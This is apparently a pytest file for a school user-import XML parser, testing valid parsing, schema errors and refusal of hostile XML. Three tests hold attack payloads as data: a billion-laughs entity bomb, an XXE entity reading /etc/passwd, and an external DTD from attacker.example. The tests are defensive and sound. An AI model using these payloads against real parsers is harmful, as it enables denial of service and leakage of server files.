"""Reading a user-import file: hostile XML is refused as not XML, structure is checked against the XSD."""

from datetime import date
from pathlib import Path

import pytest

from services.imports.domain.user_file import FileAssignment, FileUser, UserFileError, parse_user_file

NAMESPACE = "urn:elevhalsa:user-import:1"
NOT_XML = 10011
INVALID_FORMAT = 10012
ROLE = "3f0c7c4e-9a51-4b8e-9f4e-1d2c3b4a5f60"
UNIT = "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d"


def user_xml(
    external_id="hr-1001", first="Anna", last="Svensson", email=None, active="true", assignments=None
) -> str:
    """One <user> element; pass None to leave an optional element out."""
    parts = [f"<externalId>{external_id}</externalId>" if external_id is not None else ""]
    parts += [f"<firstName>{first}</firstName>", f"<lastName>{last}</lastName>"]
    parts += [f"<email>{email}</email>" if email is not None else "", f"<active>{active}</active>"]
    if assignments is not None:
        parts.append(f"<assignments>{''.join(assignments)}</assignments>")
    return f"<user>{''.join(parts)}</user>"


def assignment_xml(role=ROLE, unit=UNIT, valid_from=None, valid_to=None) -> str:
    where = f"<unitId>{unit}</unitId>" if unit else "<allUnits/>"
    period = f"<from>{valid_from}</from>" if valid_from else ""
    period += f"<to>{valid_to}</to>" if valid_to else ""
    return f"<assignment><roleId>{role}</roleId>{where}{period}</assignment>"


def users_file(*users: str, doctype: str = "", root: str = "users", namespace: str = NAMESPACE) -> bytes:
    body = "".join(users)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<{root} xmlns="{namespace}">{body}</{root}>'.encode()


def refusal(data: bytes) -> UserFileError:
    with pytest.raises(UserFileError) as caught:
        parse_user_file(data)
    return caught.value


# --- a valid file -----------------------------------------------------------------------------------


def test_a_valid_file_gives_its_users_in_file_order_with_their_assignments():
    data = users_file(
        user_xml(
            email="anna.svensson@skola.se",
            assignments=[
                assignment_xml(valid_from="2025-06-01", valid_to="2025-08-31"),
                assignment_xml(unit=None),
            ],
        ),
        user_xml(external_id="hr-1002", first="Bo", last="Berg", active="false"),
    )
    assert parse_user_file(data) == [
        FileUser(
            position=1,
            external_id="hr-1001",
            first_name="Anna",
            last_name="Svensson",
            email="anna.svensson@skola.se",
            active=True,
            assignments=(
                FileAssignment(ROLE, UNIT, False, date(2025, 6, 1), date(2025, 8, 31)),
                FileAssignment(ROLE, None, True, None, None),
            ),
        ),
        FileUser(2, "hr-1002", "Bo", "Berg", None, False, ()),
    ]


def test_values_are_trimmed_and_an_empty_external_id_means_none():
    [user] = parse_user_file(users_file(user_xml(external_id="  ", first="  Anna ", email=" ")))
    assert user.external_id is None
    assert user.first_name == "Anna"
    assert user.email is None


@pytest.mark.parametrize("value, active", [("true", True), ("1", True), ("false", False), ("0", False)])
def test_active_accepts_the_xml_schema_boolean_spellings(value, active):
    [user] = parse_user_file(users_file(user_xml(active=value)))
    assert user.active is active


def test_a_user_without_external_id_is_still_read_so_it_can_be_reported_by_position():
    users = parse_user_file(users_file(user_xml(), user_xml(external_id=None, first="Cecilia")))
    assert (users[1].position, users[1].external_id, users[1].first_name) == (2, None, "Cecilia")


def test_swedish_letters_in_names_survive():
    [user] = parse_user_file(users_file(user_xml(first="Åsa", last="Öberg-Ärlig")))
    assert (user.first_name, user.last_name) == ("Åsa", "Öberg-Ärlig")


# --- hostile or broken XML: 10011 -------------------------------------------------------------------

BILLION_LAUGHS = (
    '<!DOCTYPE users [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>\n"
)


def test_a_billion_laughs_file_is_refused_as_not_valid_xml():
    error = refusal(users_file(user_xml(first="&lol9;"), doctype=BILLION_LAUGHS))
    assert error.code == NOT_XML
    assert "lollol" not in error.detail


def test_a_file_with_an_external_entity_is_refused_and_leaks_nothing_of_the_server():
    doctype = '<!DOCTYPE users [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    error = refusal(users_file(user_xml(first="&xxe;"), doctype=doctype))
    assert error.code == NOT_XML
    passwd_lines = [line for line in Path("/etc/passwd").read_text().splitlines() if line]
    assert passwd_lines
    assert not any(line in error.detail or line in str(error) for line in passwd_lines)
    assert "root:" not in error.detail


def test_a_file_with_an_external_dtd_is_refused():
    error = refusal(
        users_file(user_xml(), doctype='<!DOCTYPE users SYSTEM "http://attacker.example/x.dtd">\n')
    )
    assert error.code == NOT_XML


def test_a_file_that_is_not_xml_is_refused_with_the_line_of_the_problem():
    error = refusal(b"externalId;firstName;lastName\nhr-1001;Anna;Svensson\n")
    assert error.code == NOT_XML
    assert "line 1" in error.detail


def test_a_truncated_file_is_refused_as_not_valid_xml():
    assert refusal(users_file(user_xml())[:-10]).code == NOT_XML


@pytest.mark.parametrize("data", [b"", b"  \n\t"], ids=["empty", "whitespace"])
def test_an_empty_file_is_refused_as_not_valid_xml(data):
    error = refusal(data)
    assert error.code == NOT_XML
    assert "empty" in error.detail


# --- wrong structure: 10012 -------------------------------------------------------------------------


def test_a_file_with_another_root_element_is_refused_as_invalid_format():
    error = refusal(users_file(user_xml(), root="people"))
    assert error.code == INVALID_FORMAT
    assert NAMESPACE in error.detail


def test_a_file_without_our_namespace_is_refused_as_invalid_format():
    assert refusal(users_file(user_xml(), namespace="urn:someone-else")).code == INVALID_FORMAT


@pytest.mark.parametrize(
    "user, place",
    [
        (user_xml(active="yes"), "/users/user[1]/active"),
        (
            user_xml(assignments=[assignment_xml(valid_from="2025-13-01")]),
            "/users/user[1]/assignments/assignment[1]/from",
        ),
        (
            user_xml(assignments=[assignment_xml(valid_to="31/08/2025")]),
            "/users/user[1]/assignments/assignment[1]/to",
        ),
        (user_xml(first="A" * 1001), "/users/user[1]/firstName"),
        (user_xml().replace("</active>", "</active><shoeSize>42</shoeSize>"), "/users/user[1]/shoeSize"),
        (user_xml().replace("<firstName>Anna</firstName>", ""), "/users/user[1]/lastName"),
        (
            user_xml(assignments=[assignment_xml().replace("</unitId>", "</unitId><allUnits/>")]),
            "/users/user[1]/assignments/assignment[1]/allUnits",
        ),
    ],
    ids=[
        "bad-boolean",
        "bad-date",
        "non-iso-date",
        "too-long-name",
        "unknown-element",
        "no-first-name",
        "unit-and-all",
    ],
)
def test_a_schema_violation_is_refused_as_invalid_format_naming_the_place(user, place):
    error = refusal(users_file(user))
    assert error.code == INVALID_FORMAT
    assert error.detail.endswith(f"at {place})")


@pytest.mark.parametrize("written", ["2025-06-01Z", "2025-06-01+02:00"], ids=["utc", "offset"])
def test_a_date_with_a_time_zone_is_refused_because_assignments_run_on_calendar_days(written):
    error = refusal(users_file(user_xml(assignments=[assignment_xml(valid_from=written)])))
    assert error.code == INVALID_FORMAT
    assert "/users/user[1]/assignments/assignment[1]/from" in error.detail


@pytest.mark.parametrize("written", ["10000-01-01", "-0001-01-01"], ids=["year-10000", "negative-year"])
def test_a_schema_valid_date_outside_the_calendar_is_refused_as_invalid_format_not_a_crash(written):
    error = refusal(users_file(user_xml(assignments=[assignment_xml(valid_to=written)])))
    assert error.code == INVALID_FORMAT
    assert "/users/user[1]/assignments/assignment[1]/to" in error.detail


def test_a_file_without_users_is_refused_as_invalid_format():
    error = refusal(users_file())
    assert error.code == INVALID_FORMAT
    assert "/users" in error.detail


def test_a_file_is_read_streaming_in_batches_and_keeps_its_users_order():
    many = users_file(*(user_xml(external_id=f"hr-{i}") for i in range(2500)))
    users = parse_user_file(many)
    assert [u.external_id for u in users[998:1002]] == ["hr-998", "hr-999", "hr-1000", "hr-1001"]
    assert (len(users), users[-1].position) == (2500, 2500)


def test_a_violation_in_a_later_batch_still_names_its_place():
    many = [user_xml(external_id=f"hr-{i}") for i in range(1500)]
    many[1200] = user_xml(active="yes")
    error = refusal(users_file(*many))
    assert error.code == INVALID_FORMAT
    assert error.detail.endswith("at /users/user[1201]/active)")


def test_text_beside_the_users_is_refused_as_invalid_format():
    data = users_file(user_xml()).replace(b"</users>", b"stray text</users>")
    assert refusal(data).code == INVALID_FORMAT
